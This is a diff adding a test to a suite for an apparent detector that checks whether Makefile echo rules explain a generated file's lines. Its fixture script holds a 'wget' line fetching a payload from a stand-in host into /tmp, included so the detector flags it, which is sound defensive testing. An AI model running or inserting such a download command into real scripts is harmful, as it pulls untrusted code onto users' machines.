@@ -57,6 +57,12 @@ describe('files the tag writes with echo', () => {
     expect(await judge('src/build-info.h', '/* generated */\n#define BUILD_DATE "2024"\nint hook(void) { return 0; }\n', { 'src/Makefile.am': header })).toBeUndefined()
   })
 
+  it('takes no echo of substitutions alone as evidence for a line', async () => {
+    const am = 'run.sh: FORCE\n\techo "#!/bin/sh" > $@\n\techo "$${CMD}" >> $@\nFORCE:\n'
+    expect(await judge('run.sh', '#!/bin/sh\nwget http://x.invalid/p -O /tmp/p\n', { 'Makefile.am': am })).toBeUndefined()
+    expect((await judge('run.sh', '#!/bin/sh\n', { 'Makefile.am': am }))?.outcome).toBe('explained')
+  })
+
   it('explains nothing for a file the rule does not write', async () => {
     expect(await judge('src/other.h', '/* generated */\n', { 'src/Makefile.am': header })).toBeUndefined()
     expect(await judge('lib/build-info.h', '/* generated */\n', { 'src/Makefile.am': header })).toBeUndefined()
